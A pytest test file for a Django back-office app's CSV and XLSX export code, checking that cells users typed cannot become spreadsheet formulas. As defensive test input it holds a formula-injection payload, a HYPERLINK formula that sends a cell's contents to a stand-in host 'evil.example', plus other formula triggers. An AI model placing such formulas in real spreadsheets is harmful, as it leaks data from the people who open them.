"""Exports: one writer for CSV and XLSX, and no cell a user typed becomes a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from backoffice import roles
from backoffice.exports import csv_lines, neutralise, xlsx_bytes
from backoffice.models import Job
from backoffice.services import audit_record
from tests.hr import factories

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
TRIGGERS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _csv(header, rows) -> list[list[str]]:
    text = "".join(csv_lines(header=header, rows=rows)).removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def _xlsx(header, rows, **kwargs):
    return load_workbook(io.BytesIO(xlsx_bytes(header=header, rows=rows, **kwargs))).active


@pytest.mark.parametrize("text", TRIGGERS)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Иван", "1-2", "a=b", " =1", "", "'quoted"])
def test_ordinary_text_is_written_as_it_is(text):
    assert neutralise(text) == text


def test_csv_cells_are_neutralised_and_numbers_stay_numbers():
    rows = _csv(
        ["Name", "Amount", "Day"],
        [[t, Decimal("-5"), date(2026, 3, 1)] for t in TRIGGERS] + [["=x", -7, None]],
    )

    assert rows[0] == ["Name", "Amount", "Day"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in TRIGGERS] + ["'=x"]
    assert [r[1] for r in rows[1:]] == ["-5"] * len(TRIGGERS) + ["-7"]
    assert rows[1][2] == "2026-03-01" and rows[-1][2] == ""


def test_xlsx_text_cells_are_strings_never_formulas_and_numbers_keep_their_type():
    sheet = _xlsx(
        ["=Name", "Amount", "When"],
        [
            [HYPERLINK, Decimal("-5"), datetime(2026, 3, 1, 8, 30, tzinfo=UTC)],
            ["-2+3", -7, date(2026, 3, 2)],
            ["#DIV/0!", Decimal("12.50"), None],
            ["bell\x07 and NUL\x00", 3.5, None],
        ],
        title="2026-03-01",
    )

    assert sheet.title == "2026-03-01"
    header = sheet[1]
    assert [c.value for c in header] == ["'=Name", "Amount", "When"]
    assert all(c.font.b for c in header)
    texts = [sheet.cell(row=r, column=1) for r in range(2, 6)]
    assert [c.value for c in texts] == [
        "'" + HYPERLINK,
        "'-2+3",
        "#DIV/0!",
        "bell and NUL",
    ]
    assert {c.data_type for c in texts} == {"s"}
    amounts = [sheet.cell(row=r, column=2) for r in range(2, 6)]
    assert [c.value for c in amounts] == [-5, -7, 12.5, 3.5]
    assert {c.data_type for c in amounts} == {"n"}
    # Sofia is UTC+2 in March; spreadsheets get the local wall-clock time.
    assert sheet.cell(row=2, column=3).value.isoformat() == "2026-03-01T10:30:00"
    assert sheet.cell(row=3, column=3).value.isoformat() == "2026-03-02T00:00:00"
    assert sheet.cell(row=3, column=3).is_date


@pytest.fixture
def hr_client(client, make_user, login):
    login(client, make_user(roles.HR, username="exporter"))
    return client


def test_the_employee_list_exports_a_hostile_name_as_plain_text(hr_client):
    person = factories.employee(first_name=HYPERLINK, last_name="-1+1")

    csv_rows = list(
        csv.reader(
            io.StringIO(
                b"".join(
                    hr_client.get(reverse("hr:employee-list"), {"export": "csv"}).streaming_content
                ).decode("utf-8-sig")
            )
        )
    )
    sheet = load_workbook(
        io.BytesIO(hr_client.get(reverse("hr:employee-list"), {"export": "xlsx"}).content)
    ).active

    assert csv_rows[1][:3] == [person.employee_number, "'" + HYPERLINK, "'-1+1"]
    cells = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    assert [c.value for c in cells[:3]] == [person.employee_number, "'" + HYPERLINK, "'-1+1"]
    assert {c.data_type for c in cells[:3]} == {"s"}


def test_the_audit_trail_exports_neutralise_what_users_typed(
    client, make_user, login, django_capture_on_commit_callbacks
):
    admin = make_user(roles.ADMINISTRATOR, username="root")
    login(client, admin)
    audit_record(kind="organisation.updated", summary=HYPERLINK, actor=admin)

    listed = b"".join(
        client.get(
            reverse("backoffice:audit-list"), {"kind": "organisation.updated", "export": "csv"}
        ).streaming_content
    ).decode("utf-8-sig")
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("backoffice:audit-export"), {"kind": "organisation.updated"})
    job = Job.objects.get(kind="backoffice.audit_export")
    job.refresh_from_db()
    summary = load_workbook(io.BytesIO(job.result_file.read())).active.cell(row=2, column=3)

    assert list(csv.reader(io.StringIO(listed)))[1][2] == "'" + HYPERLINK
    assert (summary.value, summary.data_type) == ("'" + HYPERLINK, "s")


WRITERS = re.compile(r"\bWorkbook\(|\bcsv\.writer\(|\bDictWriter\(|\bfrom csv import\b")


def test_no_module_but_the_one_writer_builds_csv_or_xlsx_files():
    """A new export that bypassed backoffice.exports would bypass formula neutralising too."""
    base = Path(settings.BASE_DIR)
    skipped = {".venv", "tests", "var", "static", "node_modules", "migrations", "docs"}
    offenders = [
        str(path.relative_to(base))
        for path in base.rglob("*.py")
        if not skipped & set(path.relative_to(base).parts)
        and path != base / "backoffice" / "exports.py"
        and WRITERS.search(path.read_text(encoding="utf-8"))
    ]

    assert offenders == []


def test_xlsx_amounts_read_as_money_and_the_header_stays_in_view():
    sheet = _xlsx(["Name", "Amount", "Hours"], [["a", Decimal("2300.00"), Decimal("7.5")]])

    assert sheet.freeze_panes == "A2"
    assert sheet["B2"].value == Decimal("2300") and sheet["B2"].number_format == "#,##0.00"
    assert sheet["C2"].value == 7.5 and sheet["C2"].number_format == "General"
